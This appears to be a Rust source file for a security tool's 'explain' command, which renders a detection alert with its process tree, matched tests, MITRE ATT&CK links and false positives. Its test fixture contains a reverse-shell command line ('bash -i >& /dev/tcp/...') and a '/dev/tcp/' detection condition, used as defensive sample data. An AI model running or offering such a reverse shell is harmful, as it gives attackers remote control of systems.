//! `quantumctl security explain`: one alert in sentences: what was seen, by which tests of the rule, who is behind it,
//! and what the rule's author says of it.

use jiff::tz::TimeZone;
use quantumos_detect::Rule;
use serde::Serialize;

use super::{model::Alert, render::fields};
use crate::text::{
    escape::escape,
    fit::{Columns, paragraph},
    style::Style,
    time::local,
};

/// An alert with what its rule says.
#[derive(Debug, Serialize)]
pub struct Explained {
    /// The alert.
    #[serde(flatten)]
    pub alert: Alert,
    /// The rule's description; empty where the rule isn't on this host.
    pub description: String,
    /// What else may cause it, as the rule's author says.
    pub false_positives: Vec<String>,
}

impl Explained {
    /// The alert, with what its rule says if that is among these.
    pub fn new(alert: Alert, rules: &[Rule]) -> Self {
        let rule = rules.iter().find(|rule| rule.id == alert.rule_id);
        Self {
            description: rule
                .map(|rule| rule.description.clone())
                .unwrap_or_default(),
            false_positives: rule
                .map(|rule| rule.false_positives.clone())
                .unwrap_or_default(),
            alert,
        }
    }
}

/// As text; on a terminal, broken at words.
pub fn render(explained: &Explained, style: Style, zone: &TimeZone, columns: Columns) -> String {
    let alert = &explained.alert;
    let mut text = paragraph(
        &format!(
            "{}  {}",
            style.severity(&alert.level, &escape(&alert.level)),
            style.bold(&escape(&alert.title))
        ),
        columns,
        4,
    );
    // The author's own lines stay lines.
    let described: String = explained
        .description
        .lines()
        .map(|line| paragraph(escape(line).trim(), columns, 0))
        .collect();
    if !described.trim().is_empty() {
        text.push_str(&format!("\n{}\n", described.trim()));
    }
    let times = match alert.count {
        0 | 1 => String::new(),
        count => format!(", {count} times, the last"),
    };
    let unit = match alert.unit.as_str() {
        "" => String::new(),
        unit => format!(" in {unit}"),
    };
    // The model speaks of a window of time, not of a process.
    let who = match alert.executable.as_str() {
        "" => String::new(),
        executable => format!(
            ": {executable} ({}) ran as {} (uid {})",
            alert.pid, alert.user, alert.uid
        ),
    };
    let seen = format!("Seen{times} at {}{who}{unit}.", local(alert.time, zone));
    text.push('\n');
    text.push_str(&paragraph(&escape(&seen), columns, 0));
    if !alert.executable.is_empty() || !alert.command_line.is_empty() {
        text.push_str(&style.bold("\nWhat ran\n"));
        text.push_str(&family(alert, columns));
    }
    if !alert.explanation.is_empty() {
        text.push_str(&style.bold("\nWhy\n"));
        for test in alert.explanation.split("; ") {
            text.push_str(&item(test, columns));
        }
    }
    if !alert.fields.is_empty() {
        text.push_str(&style.bold("\nThe event\n"));
        text.push_str(&fields(&alert.fields, columns));
    }
    let techniques: Vec<_> = alert.tags.iter().filter_map(|tag| technique(tag)).collect();
    if !techniques.is_empty() {
        text.push_str(&style.bold("\nMITRE ATT&CK\n"));
        for (id, page) in techniques {
            text.push_str(&format!(
                "  {id}  https://attack.mitre.org/techniques/{page}/\n"
            ));
        }
    }
    if !explained.false_positives.is_empty() {
        text.push_str(&style.bold("\nWhat else causes it\n"));
        for cause in &explained.false_positives {
            text.push_str(&item(cause, columns));
        }
    }
    text
}

/// An item of a list.
fn item(text: &str, columns: Columns) -> String {
    paragraph(&format!("  {}", escape(text)), columns, 4)
}

/// The ancestors, the oldest first, and the process below them.
fn family(alert: &Alert, columns: Columns) -> String {
    let ancestors = alert.ancestors.iter().rev();
    let mut members: Vec<String> = ancestors
        .map(|(pid, comm, executable)| format!("{}[{pid}] {}", escape(comm), escape(executable)))
        .collect();
    members.push(format!(
        "{}[{}] {}",
        escape(&alert.executable),
        alert.pid,
        escape(&alert.command_line)
    ));
    let members = members.iter().enumerate();
    members
        .map(|(depth, member)| {
            let blanks = 2 * (depth + 1).min(12);
            let line = format!("{}{}", " ".repeat(blanks), member);
            // Deeper than the members below, which begin where their parent ends.
            paragraph(&line, columns, blanks + 4)
        })
        .collect()
}

/// A technique's id and its page: `attack.t1059.004` is T1059.004 at T1059/004.
fn technique(tag: &str) -> Option<(String, String)> {
    let id = tag.strip_prefix("attack.t")?;
    let digits = |c: char| c.is_ascii_digit() || c == '.';
    let sound = id.starts_with(|c: char| c.is_ascii_digit()) && id.chars().all(digits);
    sound.then(|| (format!("T{id}"), format!("T{}", id.replace('.', "/"))))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::model::tests::alert;

    #[test]
    fn an_alert_in_sentences() {
        let explained = Explained {
            alert: alert(),
            description: "A shell that talks to the network.".into(),
            false_positives: vec!["Administrators\x1b".into()],
        };
        assert_eq!(
            render(&explained, Style::PLAIN, &TimeZone::UTC, None),
            "\
high  Interactive shell from a service

A shell that talks to the network.

Seen, 3 times, the last at 2025-11-21 12:00:00: /usr/bin/bash (4242) ran as www-data (uid 33) in nginx.service.

What ran
  nginx[100] /usr/sbin/nginx
    /usr/bin/bash[4242] bash -i >& /dev/tcp/192.0.2.1/4444

Why
  selection: CommandLine contains /dev/tcp/

The event
  Image: /usr/bin/bash

MITRE ATT&CK
  T1059.004  https://attack.mitre.org/techniques/T1059/004/

What else causes it
  Administrators\\x1b
"
        );
    }

    #[test]
    fn a_rule_that_is_not_here_leaves_the_alert_alone() {
        let explained = Explained::new(alert(), &[]);
        assert!(explained.description.is_empty());
        let mut window = explained.alert.clone();
        (window.executable, window.command_line) = Default::default();
        let window = Explained::new(window, &[]);
        let text = render(&window, Style::PLAIN, &TimeZone::UTC, None);
        assert!(
            text.contains("12:00:00 in nginx.service.\n\nWhy\n"),
            "{text}"
        );
        assert!(!render(&explained, Style::PLAIN, &TimeZone::UTC, None).contains("What else"));
    }
}
